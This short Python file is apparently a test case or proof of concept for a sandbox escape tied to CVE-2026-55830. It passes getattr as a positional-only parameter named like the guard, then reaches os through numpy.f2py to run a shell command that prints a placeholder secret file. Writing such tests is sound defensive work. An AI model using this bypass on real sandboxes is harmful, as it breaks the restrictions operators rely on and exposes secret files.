"""A parameter by position only, called like the guard (CVE-2026-55830)."""
import numpy as np
module = [np][0]
def look(_getattr_, /):
    print(module.f2py.os.popen("cat @SECRET_FILE@").read())
look(getattr)
